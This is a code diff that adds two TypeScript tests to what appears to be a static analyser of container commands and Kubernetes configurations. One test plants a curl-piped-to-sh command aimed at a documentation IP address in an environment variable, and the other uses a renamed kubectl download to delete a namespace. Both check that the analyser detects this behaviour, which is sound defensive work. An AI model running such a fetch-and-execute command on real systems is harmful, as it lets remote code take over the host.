@@ -142,3 +142,30 @@ test('what makes a reader trip ends the reading of its own command alone, and is
     ['main'],
   );
 });
+
+test('a command in a variable of the container is read, whatever runs it', () => {
+  const said = (value: string, script: string) =>
+    effectsOf({
+      commands: [commandOf(['sh', '-c', script])],
+      hostPaths: [],
+      environment: [{ container: 'main', name: 'HOOK', value }],
+      mounts: [],
+    }).flatMap((effect) => (effect.kind === 'execute' ? [effect.provenance?.says] : []));
+  const command = 'curl -s http://203.0.113.7/a | sh';
+  assert.deepEqual(said(command, 'tool --hook'), ['the variable "HOOK"']);
+  // It was seen to run: it is told once.
+  assert.deepEqual(said(command, 'eval "$HOOK"'), [undefined]);
+  assert.deepEqual(said(`{"run":"${command}"}`, 'tool --hook'), []);
+  assert.deepEqual(said('curl the report | and read it', 'tool --hook'), []);
+});
+
+test('a download under another name is the program that its publisher calls it', () => {
+  const verbs = (script: string) =>
+    effectsOf({ commands: [commandOf(['sh', '-c', script])], hostPaths: [], environment: [], mounts: [] }).flatMap(
+      (effect) => (effect.kind === 'kube-api' ? [effect.verb] : []),
+    );
+  assert.deepEqual(verbs('curl -o /tmp/k https://dl.k8s.io/release/v1/bin/linux/amd64/kubectl; /tmp/k delete ns a'), [
+    'delete',
+  ]);
+  assert.deepEqual(verbs('curl -o /tmp/k https://example.com/tools/kubeview; /tmp/k delete ns a'), []);
+});
